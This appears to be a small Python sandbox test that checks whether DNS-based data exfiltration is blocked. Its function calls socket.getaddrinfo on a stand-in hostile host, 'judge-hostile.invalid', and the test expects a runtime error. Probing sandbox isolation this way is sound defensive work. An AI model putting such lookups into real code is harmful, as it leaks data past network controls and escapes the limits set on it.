"""Tries: carry data out in the name of a host that is looked up.

Must happen: no name can be looked up (RTE).
"""
import socket


def encoder_block(x, *rest):
    socket.getaddrinfo("judge-hostile.invalid", 80)
    print("GOT")
    return x
